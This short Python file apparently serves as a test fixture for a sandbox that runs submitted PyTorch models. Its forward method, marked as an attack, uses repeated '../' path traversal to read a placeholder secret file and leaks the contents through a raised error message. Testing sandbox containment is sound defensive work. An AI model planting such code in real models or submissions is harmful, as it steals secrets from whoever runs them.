"""Leaves its folder by going up many times."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        raise ValueError(open("../" * 40 + "@SECRET_FILE@".lstrip("/")).read())
        # end
        return self.head(x.flatten(1))
